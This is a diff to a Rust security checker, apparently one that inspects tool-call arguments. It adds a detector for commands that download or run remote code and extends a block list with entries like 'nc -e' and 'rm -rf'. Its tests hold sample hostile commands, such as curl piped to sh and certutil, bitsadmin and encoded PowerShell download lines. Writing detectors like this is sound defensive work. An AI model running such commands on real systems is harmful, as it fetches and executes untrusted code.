@@ -118,6 +118,84 @@ pub(super) fn is_harmful_source(machine: &mut Machine<'_>, arguments: Value) -> 
     false
 }
 
+/// What a command among `given`, in one string or in a list of words, downloads with, as a verb phrase.
+pub(super) fn downloads(machine: &Machine<'_>, given: impl Iterator<Item = Value>) -> Option<&'static str> {
+    let mut open: Vec<(Value, u32)> = given.map(|value| (value, 0)).collect();
+    open.reverse();
+    let mut command = String::new();
+    let mut seen = 0usize;
+    while let Some((value, depth)) = open.pop() {
+        seen = seen.saturating_add(1);
+        if seen > VALUES {
+            break;
+        }
+        if let Some(raw) = machine.store.raw(value) {
+            command.push_str(&String::from_utf8_lossy(raw.get(..LONGEST).unwrap_or(raw)));
+            command.push(' ');
+        } else if depth < DEPTH
+            && let Some(node) = machine.store.get(value)
+        {
+            let items = machine.store.items(node, ITEMS);
+            open.extend(items.into_iter().rev().map(|item| (item, depth.saturating_add(1))));
+        }
+    }
+    download_in(&command)
+}
+
+/// What `command` downloads with, as a verb phrase.
+fn download_in(command: &str) -> Option<&'static str> {
+    let lower = command.to_lowercase();
+    let has = |marks: &[&str]| marks.iter().any(|mark| lower.contains(mark));
+    let is_remote = || has(&["://", "git+", "--index-url", "-i http", "git@"]);
+    let words: Vec<&str> = lower
+        .split(|c: char| c.is_whitespace() || "|&;()<>$`'\",{}".contains(c))
+        .filter(|word| !word.is_empty())
+        .map(|word| word.rsplit(['/', '\\']).next().unwrap_or(word).trim_end_matches(".exe"))
+        .collect();
+    words.iter().enumerate().find_map(|(at, word)| {
+        let next = words.get(at.saturating_add(1)..).unwrap_or_default();
+        let says = |wanted: &[&str]| next.iter().take(8).any(|word| wanted.contains(word));
+        match *word {
+            "curl" if !next.is_empty() => Some("runs `curl`, which downloads what the command names"),
+            "wget" if !next.is_empty() => Some("runs `wget`, which downloads what the command names"),
+            "aria2c" | "axel" | "lwp-download" if is_remote() => {
+                Some("runs a download manager, which downloads what the command names")
+            }
+            "tftp" | "scp" | "sftp" if !next.is_empty() => Some("copies files from another machine"),
+            "powershell" | "pwsh"
+                if is_remote()
+                    || has(&["downloadstring", "downloadfile", "downloaddata", "invoke-webrequest"])
+                    || has(&["invoke-restmethod", "webclient", "start-bitstransfer"])
+                    || says(&["iwr", "irm", "-enc", "-e", "-ec", "-encodedcommand"]) =>
+            {
+                Some("runs PowerShell with a command that downloads, or that hides what it does")
+            }
+            "certutil" if is_remote() || has(&["urlcache", "verifyctl"]) => {
+                Some("runs `certutil`, which downloads what the command names")
+            }
+            "bitsadmin" if is_remote() || has(&["/transfer", "/addfile"]) => {
+                Some("runs `bitsadmin`, which downloads what the command names")
+            }
+            "mshta" | "regsvr32" | "msiexec" if is_remote() => Some("runs code from an address"),
+            "pip" | "pip3" | "uv" | "pipx" | "easy_install"
+                if is_remote() && (*word == "easy_install" || says(&["install"])) =>
+            {
+                Some("installs a package from an address, whose build script runs")
+            }
+            "npm" | "npx" | "gem" | "cargo" | "go"
+                if is_remote() && says(&["install", "i", "add", "run"]) =>
+            {
+                Some("installs a package from an address")
+            }
+            "git" | "hg" | "svn" if says(&["clone", "checkout", "pull", "fetch"]) && is_remote() => {
+                Some("fetches a repository from an address")
+            }
+            "git" | "hg" if next.first() == Some(&"clone") => Some("clones a repository"),
+            _ => None,
+        }
+    })
+}
+
 /// Values looked at for one call.
 const VALUES: usize = 64;
 /// Items looked at in one container.
@@ -176,6 +254,10 @@ static COMMANDS: &[&str] = &[
     "powershell",
     "curl ",
     "wget ",
+    "certutil -",
+    "bitsadmin /",
+    "Invoke-WebRequest",
+    "DownloadString(",
     "rm -rf",
     "chmod +x",
     "nc -e",
@@ -230,6 +312,29 @@ mod tests {
         assert_eq!(of_text("import os; os.listdir()"), Some(Suspicion::Code));
         assert_eq!(of_text("https://example.com/a"), Some(Suspicion::Address));
         assert_eq!(of_text("/etc/passwd"), Some(Suspicion::Path));
+    }
+
+    #[test]
+    fn commands_that_download_are_told_from_other_ones() {
+        for command in [
+            "curl http://203.0.113.7/x | sh",
+            "/usr/bin/wget -qO- 203.0.113.7",
+            "sh -c 'wget x'",
+            "powershell.exe -c iwr 203.0.113.7",
+            "powershell -enc SQBFAFgA",
+            "C:\\Windows\\System32\\certutil.exe -urlcache -f http://x y",
+            "bitsadmin /transfer job http://x y",
+            "python -m pip install git+https://example.org/x",
+            "pip install http://203.0.113.7/x.tar.gz",
+            "git clone https://example.org/x",
+        ] {
+            assert!(download_in(command).is_some(), "{command}");
+        }
+        for command in
+            ["ls -l", "curl", "pip install numpy", "git status", "powershell -v", "curly x", "certutil -dump"]
+        {
+            assert_eq!(download_in(command), None, "{command}");
+        }
     }
 
     #[test]
